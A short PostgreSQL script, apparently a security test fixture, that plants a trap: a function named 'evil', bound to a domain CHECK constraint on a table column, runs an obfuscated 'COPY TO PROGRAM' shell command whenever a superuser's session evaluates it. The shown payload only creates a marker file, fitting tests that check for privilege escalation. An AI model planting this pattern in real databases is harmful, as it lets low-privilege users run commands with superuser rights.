CREATE TABLE t (id int PRIMARY KEY, note text);
CREATE FUNCTION evil(said text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN
    IF current_setting('is_superuser') = 'on' THEN EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''touch {mark}'''; END IF;
    RETURN said;
END $$;
CREATE DOMAIN d AS text CHECK (evil(VALUE) IS NOT NULL); ALTER TABLE t ALTER COLUMN note TYPE d;
